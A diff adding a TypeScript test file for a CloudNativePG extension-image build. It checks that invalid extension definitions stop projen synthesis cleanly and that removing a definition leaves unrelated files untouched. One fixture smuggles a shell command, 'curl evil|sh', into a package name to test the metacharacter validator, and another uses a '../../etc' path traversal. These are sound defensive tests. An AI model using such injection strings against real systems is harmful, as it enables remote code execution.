@@ -1,0 +1,85 @@
+import { spawnSync } from 'child_process';
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import { ROOT } from './fixtures';
+
+/** A copy of the repository's tracked and untracked files (node_modules linked), to run `.projenrc.ts` in. */
+function copyOfRepository(): string {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cnpg-synth-'));
+  const files = spawnSync('git', ['ls-files', '--cached', '--others', '--exclude-standard'], { cwd: ROOT, encoding: 'utf8' }).stdout.split('\n').filter(Boolean);
+  for (const file of files) {
+    if (!fs.existsSync(path.join(ROOT, file))) continue;
+    fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
+    fs.copyFileSync(path.join(ROOT, file), path.join(dir, file));
+  }
+  fs.symlinkSync(path.join(ROOT, 'node_modules'), path.join(dir, 'node_modules'));
+  return dir;
+}
+
+/** Every file under `dir` (not following node_modules) with its content. */
+function snapshot(dir: string, prefix = ''): Map<string, string> {
+  const result = new Map<string, string>();
+  for (const entry of fs.readdirSync(path.join(dir, prefix), { withFileTypes: true })) {
+    const rel = path.join(prefix, entry.name);
+    if (entry.name === 'node_modules' || entry.name === '.git') continue;
+    if (entry.isDirectory()) snapshot(dir, rel).forEach((v, k) => result.set(k, v));
+    else result.set(rel, fs.readFileSync(path.join(dir, rel), 'utf8'));
+  }
+  return result;
+}
+
+function synthesize(dir: string) {
+  return spawnSync(path.join(ROOT, 'node_modules/.bin/tsx'), ['.projenrc.ts'], { cwd: dir, encoding: 'utf8', env: { ...process.env, CI: 'true' } });
+}
+
+const BAD_DEFINITIONS: Array<[string, string, RegExp]> = [
+  ['Bad', "name: 'Bad'", /extensions\/Bad\.ts: name: "Bad" must match/],
+  ['pg_vector2', "name: 'pg_vector2', env: { PGDATA: '/x' }", /extensions\/pg_vector2\.ts: env\.PGDATA: "PGDATA" is reserved by CloudNativePG/],
+  ['badpath', "name: 'badpath', ldLibraryPath: ['../../etc']", /extensions\/badpath\.ts: ldLibraryPath\[0\]: "\.\.\/\.\.\/etc" escapes the image/],
+  ['badpkg', "name: 'badpkg', packages: ['postgresql-{major}-x;curl evil|sh']", /extensions\/badpkg\.ts: packages\[0\]: .*shell metacharacters are not allowed/],
+];
+
+describe('synthesis through projen', () => {
+  let dir: string;
+  beforeAll(() => {
+    dir = copyOfRepository();
+  });
+  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
+
+  test.each(BAD_DEFINITIONS)('a bad definition (%s) stops synthesis with one clear line and writes nothing', (name, overrides, message) => {
+    const file = path.join(dir, 'extensions', `${name}.ts`);
+    fs.writeFileSync(file, `import { pgvector } from './pgvector';\nexport const bad = { ...pgvector, imageName: '${name.toLowerCase().replace(/_/g, '-')}x', ${overrides} };\n`);
+    const before = snapshot(dir);
+    try {
+      const result = synthesize(dir);
+      expect(result.status).not.toBe(0);
+      expect(result.stderr).toMatch(message);
+      expect(result.stderr).not.toMatch(/\n\s+at /); // no stack trace, just the rule
+      expect(snapshot(dir)).toEqual(before);
+    } finally {
+      fs.rmSync(file);
+    }
+  });
+
+  test('removing a definition removes its files and catalog entries, and touches nothing outside generated/ and projen files', () => {
+    fs.writeFileSync(path.join(dir, 'NOTES.local'), 'mine\n');
+    fs.mkdirSync(path.join(dir, 'generated-not'), { recursive: true });
+    fs.writeFileSync(path.join(dir, 'generated-not', 'keep.txt'), 'keep\n');
+    fs.rmSync(path.join(dir, 'extensions', 'pgaudit.ts'));
+    const before = snapshot(dir);
+    const result = synthesize(dir);
+    expect(result.stderr).toBe('');
+    expect(result.status).toBe(0);
+    const after = snapshot(dir);
+    expect([...after.keys()].filter((f) => f.includes('pgaudit'))).toEqual([]);
+    expect(after.get('generated/catalogs/catalog-minimal-trixie.yaml')).not.toContain('pgaudit');
+    expect(after.get('extensions/index.ts')).not.toContain('pgaudit');
+    const projenManaged = new Set<string>(JSON.parse(after.get('.projen/files.json')!).files);
+    const changed = [...new Set([...before.keys(), ...after.keys()])].filter((f) => before.get(f) !== after.get(f));
+    const outside = changed.filter((f) => !f.startsWith('generated/') && !projenManaged.has(f) && f !== '.projen/files.json');
+    expect(outside).toEqual([]);
+    expect(after.get('NOTES.local')).toBe('mine\n');
+    expect(after.get('generated-not/keep.txt')).toBe('keep\n');
+  });
+});
